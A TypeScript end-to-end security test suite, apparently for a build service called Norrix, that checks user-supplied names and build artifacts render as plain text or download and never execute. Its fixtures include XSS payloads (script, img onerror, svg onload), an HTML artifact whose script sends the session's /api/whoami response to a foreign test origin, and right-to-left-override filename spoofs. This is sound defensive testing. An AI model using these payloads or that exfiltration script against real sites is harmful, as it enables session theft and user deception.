import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { create } from 'tar'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { apiKeys } from '@norrix/contract/api-keys.operations'
import { builds } from '@norrix/contract/builds.operations'
import type { Client } from '@norrix/contract/client'
import { orgs } from '@norrix/contract/orgs.operations'
import { runners } from '@norrix/contract/runners.operations'
import { sessions } from '@norrix/contract/sessions.operations'
import type { Artifact, Build } from '@norrix/contract/types'
import { startForeignPages, type ForeignPages } from '../kit/foreign-page.ts'
import { clientIn, inABrowser, takeSeat, type Seat } from '../kit/in-a-browser.ts'
import { startNorrix, type Norrix } from '../kit/norrix.ts'
import { queueBuild } from '../kit/queue-build.ts'
import { claimIn } from '../../tools/person-in-browser.ts'

/** Files and names that builds and people bring along are theirs, and so is what is in them (T79, ruling 25). */
const names = {
  script: '<script>alert(1)</script>',
  image: '"><img src=x onerror=alert(2)>',
  quote: `'"--><svg onload=alert(3)>`,
}
// A file name has no slash.
const files = ['<script>alert(4)<script>.html', '"><img src=x onerror=alert(5)>.html', 'evil.html']
const directions = /[\u202a-\u202e\u2066-\u2069]/
const ana = { email: 'ana@example.com', password: 'correct horse battery', orgName: names.script }

await inABrowser((browser) => {
  let norrix: Norrix
  let foreign: ForeignPages
  let folder: string
  let seat: Seat
  let client: Client
  let orgId: string
  let build: Build
  let evil: string

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'norrix-theirs-'))
    ;[norrix, foreign, seat] = await Promise.all([
      startNorrix({ runner: {} }),
      startForeignPages(),
      takeSeat(browser),
    ])
    evil = `<!doctype html><title>evil</title><img src="${foreign.origin}/image"><script>
      document.title = 'owned'; localStorage.setItem('owned', 'yes'); alert('owned')
      fetch('${foreign.origin}/fetch'); fetch('/api/whoami').then((a) => a.text()).then((text) =>
        fetch('${foreign.origin}/who?' + encodeURIComponent(text)))</script>`
    if (!(await norrix.prod.runner)) throw new Error(norrix.log.join(''))
    await claimIn(seat.page, (await norrix.prod.ownerLink())?.url ?? '', ana)
    client = clientIn(seat.context, norrix.prod)
    orgId = (await client.call(sessions.whoami, {})).orgs[0]?.id ?? ''
    writeFileSync(join(folder, 'evil'), evil)
    writeFileSync(
      join(folder, 'make.sh'),
      `mkdir out\n${files.map((name) => `cp evil 'out/${name}'`).join('\n')}\necho '${names.image}'`,
    )
    build = await made({ name: names.image, command: 'sh make.sh', artifacts: ['out/*'] })
    expect(build.state, JSON.stringify(build.failure)).toBe('succeeded')
  })
  afterAll(async () => {
    await foreign?.stop()
    await norrix?.stop()
    rmSync(folder, { recursive: true, force: true })
  })

  async function made(plan: {
    name: string
    command: string
    artifacts: string[]
  }): Promise<Build> {
    const chunks: Buffer[] = []
    const packing = create({ gzip: true, cwd: folder, portable: true }, ['evil', 'make.sh'])
    for await (const chunk of packing) chunks.push(Buffer.from(chunk))
    const queued = await queueBuild(client, orgId, { source: Buffer.concat(chunks), ...plan })
    const params = { orgId, buildId: queued.id }
    for await (const { event } of client.stream(builds.log, { params })) {
      if (event.type === 'end') break
    }
    return client.call(builds.show, { params })
  }

  const artifact = (name: string): Artifact => {
    const found = build.artifacts.find((one) => one.name === name)
    if (!found) throw new Error(`There is no artifact ${name}.`)
    return found
  }
  const addressOf = ({ id }: Artifact): string =>
    `${norrix.prod.url}/api/orgs/${orgId}/builds/${build.id}/artifacts/${id}`

  /** Nothing of the file's script or markup has happened in this browser. */
  async function expectNothingRan(page: Page): Promise<void> {
    expect(await page.evaluate(() => localStorage.getItem('owned'))).toBeNull()
    expect(await page.title()).not.toBe('owned')
    expect(foreign.asked.filter((path) => /^\/(?:fetch|who|image)/.test(path))).toEqual([])
    expect(seat.incidents).toEqual([])
  }

  test('a page among the artifacts is downloaded from the dashboard, byte for byte, and runs nothing', async () => {
    const { page } = seat
    await page.goto(`${build.url}?tab=artifacts`)
    await page.getByRole('tab', { name: /^Artifacts/ }).click()
    const coming = page.waitForEvent('download')
    await page.getByRole('link', { name: 'Download evil.html' }).click()
    const download = await coming
    expect(download.suggestedFilename()).toBe('evil.html')
    expect(await readFile(await download.path(), 'utf8')).toBe(evil)
    await expectNothingRan(page)
    expect(seat.violations).toEqual([])
  })

  test('opened at its own address, with the session, it is downloaded as well', async () => {
    const page = await seat.context.newPage()
    await page.goto(`${norrix.prod.url}/account`)
    for (const name of files) {
      const coming = page.waitForEvent('download')
      await page.goto(addressOf(artifact(name))).catch((error: unknown) => {
        if (!/Download is starting|ERR_ABORTED/.test(String(error))) throw error
      })
      expect(await readFile(await (await coming).path(), 'utf8')).toBe(evil)
      expect(new URL(page.url()).pathname).toBe('/account')
    }
    await expectNothingRan(page)
    await page.close()
  })

  test('even shown as a page it would run nothing, and only because its policy says so', async () => {
    const elsewhere = await takeSeat(browser)
    await elsewhere.context.addCookies((await seat.context.storageState()).cookies)
    const { page } = elsewhere
    const address = addressOf(artifact('evil.html'))
    const titleWithout = async (dropped: RegExp): Promise<string> => {
      await page.route(address, async (route) => {
        const answer = await route.fetch()
        const kept = Object.entries(answer.headers()).filter(([name]) => !dropped.test(name))
        const headers = { ...Object.fromEntries(kept), 'content-type': 'text/html' }
        await route.fulfill({ response: answer, headers })
      })
      await page.goto(address, { waitUntil: 'load' })
      const title = await page.title()
      await page.unroute(address)
      return title
    }
    expect(await titleWithout(/^content-disposition$/)).toBe('evil')
    expect(foreign.asked.filter((path) => /^\/(?:fetch|who|image)/.test(path))).toEqual([])
    expect(elsewhere.incidents).toEqual([])
    // The same bytes without that policy: the file is as evil as it is meant to be.
    expect(await titleWithout(/^content-(?:disposition|security-policy)$/)).toBe('owned')
    await elsewhere.context.close()
  })

  test('names of organization, key, runner, project, person and file stand on every page as the text they are', async () => {
    const fresh = await takeSeat(browser)
    const { cookies } = await seat.context.storageState()
    await fresh.context.addCookies(cookies)
    const params = { orgId }
    for (const name of Object.values(names)) {
      await client.call(apiKeys.create, { params, body: { name, scopes: ['build'] } })
      await client.call(runners.create, { params, body: { name } })
      await client.call(orgs.create, { body: { name } })
    }
    const failed = await made({
      name: names.quote,
      command: 'sh make.sh',
      artifacts: [`nothing/${names.image}*`],
    })
    expect(failed.state).toBe('failed')
    const { page } = fresh
    const org = `${norrix.prod.url}/o/${orgId}`
    for (const [address, texts] of [
      [`${org}/settings/api-keys`, Object.values(names)],
      [`${org}/runners`, Object.values(names)],
      [`${org}/builds`, [names.image, names.quote]],
      [`${build.url}`, [names.image]],
      [`${org}/builds/${build.id}?tab=artifacts`, files],
      [`${org}/builds/${failed.id}`, [names.quote, `nothing/${names.image}*`]],
      [`${norrix.prod.url}/account`, Object.values(names)],
    ] as const) {
      await page.goto(address)
      for (const text of texts) await page.locator('main').getByText(text).first().waitFor()
      expect(await page.locator('main img, main svg[onload], main script').count()).toBe(0)
    }
    await page.goto(`${org}/settings/api-keys`)
    const row = page.getByRole('row').filter({ hasText: names.image })
    await row.getByRole('button', { name: /Revoke/ }).click()
    await page.getByRole('heading', { name: `Revoke "${names.image}"?` }).waitFor()
    expect({ dialogs: fresh.incidents, violations: fresh.violations }).toEqual({
      dialogs: [],
      violations: [],
    })
    await fresh.context.close()
  })

  test('no name that people give may turn the direction of what stands around it', async () => {
    const name = 'safe\u202egnp.exe'
    const params = { orgId }
    const refused = { code: 'bad_request' }
    const key = client.call(apiKeys.create, { params, body: { name, scopes: ['build'] } })
    await expect(key).rejects.toMatchObject(refused)
    await expect(client.call(runners.create, { params, body: { name } })).rejects.toMatchObject(
      refused,
    )
    await expect(client.call(orgs.create, { body: { name } })).rejects.toMatchObject(refused)
    const project = made({ name, command: 'sh make.sh', artifacts: ['out/*'] })
    await expect(project).rejects.toMatchObject(refused)
  })

  test('a file whose name turns the direction of writing is no artifact', async () => {
    const turned = await made({
      name: 'turned',
      command: "mkdir out; cp evil $(printf 'out/safe\\342\\200\\256gnp.html')",
      artifacts: ['out/*'],
    })
    expect(turned).toMatchObject({ state: 'failed', artifacts: [] })
    expect(turned.failure?.message).not.toMatch(directions)
    await seat.page.goto(`${norrix.prod.url}/o/${orgId}/builds/${turned.id}?tab=artifacts`)
    await seat.page.getByText('This build made no artifacts').waitFor()
    expect(await seat.page.locator('body').innerText()).not.toMatch(directions)
  })
})
